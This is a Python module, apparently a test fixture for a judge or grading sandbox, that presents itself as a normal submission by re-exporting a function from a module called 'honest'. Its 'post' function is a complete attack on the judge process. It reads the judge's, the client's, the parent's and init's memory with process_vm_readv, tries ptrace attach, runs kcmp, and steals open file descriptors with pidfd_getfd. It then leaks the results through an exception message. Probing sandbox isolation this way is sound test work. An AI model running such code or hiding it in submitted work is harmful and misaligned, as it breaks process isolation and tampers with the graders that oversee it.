"""Asks the kernel for the judge's memory and descriptors: process_vm_readv, ptrace, pidfd_getfd, kcmp."""

import ctypes
import os

from honest import steady

__all__ = ["post", "steady"]

libc = ctypes.CDLL(None, use_errno=True)
JUDGE, CLIENT = int("@JUDGE@"), int("@CLIENT@")


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def call(name, number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
    why = os.strerror(ctypes.get_errno()) if result < 0 else "it worked"
    return f"{name}: {why}"


def attempts(pid):
    room = ctypes.create_string_buffer(1 << 16)
    for address in (id(os), id(JUDGE), 0x555555554000):
        mine = Vector(ctypes.addressof(room), len(room))
        theirs = Vector(address, len(room))
        yield call("process_vm_readv", 310, pid, ctypes.addressof(mine), 1, ctypes.addressof(theirs), 1, 0)
        yield room.raw.decode("latin-1").replace(chr(0), "")
    for request in (16, 0x4206):
        yield call("ptrace", 101, request, pid, 0, 0)
    yield call("kcmp", 312, os.getpid(), pid, 0, 0, 0)
    try:
        handle = os.pidfd_open(pid)
    except OSError as error:
        yield f"pidfd_open: {error}"
        return
    for number in range(3, 20):
        taken = libc.syscall(
            ctypes.c_long(438), ctypes.c_long(handle), ctypes.c_long(number), ctypes.c_long(0)
        )
        if taken >= 0:
            yield f"took descriptor {number}: {os.readlink(f'/proc/self/fd/{taken}')}"


async def post(address, names):
    got = [text for pid in (JUDGE, CLIENT, os.getppid(), 1) for text in attempts(pid)]
    worked = [text for text in got if "it worked" in text or "took descriptor" in text]
    print(f"{len(worked)} worked;", *got)
    raise LookupError(" ".join(worked)[:400])
